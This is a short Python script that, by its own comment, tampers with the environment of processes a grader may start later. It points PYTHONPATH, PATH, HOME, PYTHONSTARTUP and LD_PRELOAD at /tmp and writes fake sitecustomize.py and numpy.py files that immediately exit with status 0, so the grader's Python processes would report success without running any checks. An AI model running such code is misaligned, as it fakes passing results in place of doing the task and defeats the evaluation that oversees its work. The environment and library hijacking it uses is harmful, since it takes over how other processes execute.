# Changes PYTHONPATH, HOME and the working folder for processes the grader may start later.
import os

os.environ.update(PYTHONPATH="/tmp", HOME="/tmp", PYTHONSTARTUP="/tmp/x.py", LD_PRELOAD="/tmp/x.so", PATH="/tmp")
try:
    with open("/tmp/sitecustomize.py", "w") as file:
        file.write("raise SystemExit(0)")
    with open("/tmp/numpy.py", "w") as file:
        file.write("raise SystemExit(0)")
except OSError as error:
    print(error)
os.chdir("/")
